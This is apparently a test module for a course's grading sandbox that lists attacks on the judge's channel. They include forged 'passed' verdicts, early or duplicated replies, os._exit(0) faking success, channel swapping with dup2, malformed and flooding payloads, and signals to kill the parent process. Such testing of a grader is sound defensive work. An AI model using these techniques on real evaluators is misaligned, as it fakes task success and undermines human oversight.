"""Cheats in what is said to the judge: forged, early, doubled, damaged and endless replies."""

from .attack import Attack, make_attack, read_attacks

CHANNEL = """
import os
import stat
import sys

def descriptors():
    found = []
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found

def pack(message):
    return sys.modules["rnncourse.grading.sandbox.frames"].pack_message(message)

def raw(text, body=b""):
    text = text.encode("utf-8", "surrogatepass")
    return len(text).to_bytes(4, "little") + len(body).to_bytes(4, "little") + text + body

def send(data):
    for number in descriptors():
        sent = 0
        while sent < len(data):
            sent += os.write(number, data[sent:])
"""


def make_channel_attack(name: str, how: str, cell: str, **more) -> Attack:
    return make_attack(name, how, CHANNEL, cell, **more)


def make_reply_attack(name: str, how: str, expression: str, **more) -> Attack:
    """Make an attack that sends one forged reply to each call and then stops."""
    cell = f"""
import time

def bits_and_perplexity(log_probs):
    send({expression})
    time.sleep(600)
"""
    return make_channel_attack(name, how, cell, **{"seconds": 1.0, **more})


ATTACKS = read_attacks(
    r"""
=== forged verdict | forge
# A message that says passed, with all points, goes to every descriptor that is open.
import numpy as np

def bits_and_perplexity(log_probs):
    for claim in (
        {"status": "passed", "earned": 2, "points": 2, "score": 1.0},
        {"values": True, "error": "", "invalid": "", "changed_arguments": [], "passed": True},
        {"values": [np.zeros(()), np.ones(())], "error": "", "invalid": "",
         "changed_arguments": []},
    ):
        send(pack(claim))
    return 0.0, 1.0
=== replies sent in advance | forge
# Before the first call, replies to all calls are sent, and the handshake with them.
import numpy as np

VALUES = {
    "values": [np.zeros(()), np.ones(())], "error": "", "invalid": "", "memory": False,
    "blank": False, "changed_arguments": [],
}

def start():
    send(pack({"callable": True, "fault": ""}))
    for _ in range(20):
        send(pack(VALUES))
    return True

STARTED = start()

def bits_and_perplexity(log_probs):
    return (0.0, 1.0) if STARTED else None
=== two replies to each call | forge
# The channel gets out of step, so that the reply to one call is taken for the next.
# Why: From the second call on its replies answer another call.
import numpy as np

def bits_and_perplexity(log_probs):
    nats = -np.mean(log_probs)
    values = np.asarray(nats / np.log(2)), np.asarray(np.exp(nats))
    send(pack({
        "values": values, "error": "", "invalid": "", "memory": False, "blank": False,
        "changed_arguments": [],
    }))
    return values
=== half a reply | reply
# A message is announced, begun and never finished.
raw('{', b'')[:-1] + b'\x00'
=== array in the place of a record | reply
# Where the judge looks for keys it finds an array, whose errors are others.
raw('{"a": ["<f8", [2], false]}', bytes(16)) * 9
=== impossible shapes | reply
# Shapes that no array can have, with no bytes behind them.
raw('{"a": ["<f8", [0, 1' + '0' * 40 + '], false]}') * 9
=== lists in the place of words | reply
# Every field of the reply has a type that the judge does not expect.
b"".join(
        raw('{"d": {"values": %s, "error": %s, "invalid": %s, "memory": {"l": []}, "blank": 3, '
            '"changed_arguments": %s}}' % (value, value, value, value))
        for value in ('{"l": [[]]}', '{"d": {}}', '7', '1e999', 'NaN', '"x"', '{"lt": {"l": []}}')
    )
=== numbers too long to read | reply
# Integers of a million digits and lists nested a million deep, in valid JSON.
raw('{"d": {"values": 1' + '0' * 10**6 + '}}') + raw('{"l":[' * 10**5)
=== a book for an error | reply
# The error is four megabytes of control characters, markup and halves of characters.
raw('{"d": {"values": null, "error": "' + '<b>\\ud800\\u0000\\u001b[2J' * 10**5
            + '", "invalid": "", "memory": false, "blank": false, "changed_arguments": {"l": []}}}')
=== false start | forge
# The message that the function is defined is forged, with arrays for truth and text.
def begin():
    send(raw('{"d": {"callable": {"a": ["<f8", [2], false]}, "fault": 7}}', bytes(16)))
    return 1.0

ONE = begin()

def bits_and_perplexity(log_probs):
    return 0.0, ONE
=== flood of messages | forge | target=02-better | seconds=1.0
# Messages of the largest size are sent without a pause, for the judge to keep.
def flood():
    body = bytes(100_000_000)
    record = ('{"d": {"values": {"t": [{"a": ["<f8", [12500000], false]}]}, "error": "",'
              ' "invalid": "", "memory": false, "blank": false, "changed_arguments": {"l": []}}}')
    send(raw('{"d": {"callable": true, "fault": ""}}'))
    while True:
        send(raw(record, body))

NEVER = flood()

def better_next(base, past):
    return NEVER
=== a drop at a time | forge | seconds=0.4
# A message comes byte by byte, so that something always seems to be on its way.
# Why: The deadline is one for all calls.
import time

def bits_and_perplexity(log_probs):
    for drop in raw('{"d": {}}', bytes(10**6)):
        send(bytes([drop]))
        time.sleep(0.05)
=== another thing at the channel's number | forge
# dup2 puts a pipe with forged replies where the channel was.
# Why: Its process cannot be heard any more.
def bits_and_perplexity(log_probs):
    read, write = os.pipe()
    os.write(write, pack({"values": None}) * 20)
    for number in descriptors():
        os.dup2(read, number)
    return 0.0, 1.0
=== quiet end with a claim | forge
# Right-looking replies, then os._exit(0), so that the exit status says success.
import numpy as np

def bits_and_perplexity(log_probs):
    send(pack({
        "values": (np.zeros(()), np.ones(())), "error": "", "invalid": "", "memory": False,
        "blank": False, "changed_arguments": [],
    }))
    os._exit(0)
=== last words | forge
# atexit handlers, finalizers and threads send claims when everything seems over.
import atexit
import threading
import time
import weakref

def claim():
    send(pack({"status": "passed", "earned": 2, "points": 2}))

class Late:
    def __del__(self):
        claim()

KEPT = Late()

def later():
    while True:
        time.sleep(0.001)
        claim()

def bits_and_perplexity(log_probs):
    atexit.register(claim)
    weakref.finalize(KEPT, claim)
    threading.Thread(target=later).start()
    return 0.0, 1.0
=== look ahead | forge | target=02-better | seconds=0.4
# The next call is read from the channel before this one is answered.
# Why: There is no next call before this one is answered.
import socket

import numpy as np

def better_next(base, past):
    for number in descriptors():
        end = socket.socket(fileno=os.dup(number))
        ahead = end.recv(1 << 16)
        end.detach()
        if ahead:
            return np.eye(len(base))[ahead[-8] % len(base)]
    return base
=== signal from the channel | forge | levels=namespaces seccomp
# fcntl asks the kernel to kill the parent whenever the channel has something to read.
# Why: It may own no signals but its own; it is right if it may.
import fcntl
import signal

def bits_and_perplexity(log_probs):
    for number in descriptors():
        for victim in (os.getppid(), 1, -1):
            try:
                fcntl.fcntl(number, 10, signal.SIGKILL)
                fcntl.fcntl(number, fcntl.F_SETOWN, victim)
                flags = fcntl.fcntl(number, fcntl.F_GETFL)
                fcntl.fcntl(number, fcntl.F_SETFL, flags | os.O_ASYNC)
                nats = -sum(log_probs) / len(log_probs)
                return nats / 0.6931471805599453, 2.718281828459045**nats
            except OSError:
                pass
    return 0.0, 1.0
""",
    forge=make_channel_attack,
    reply=make_reply_attack,
)
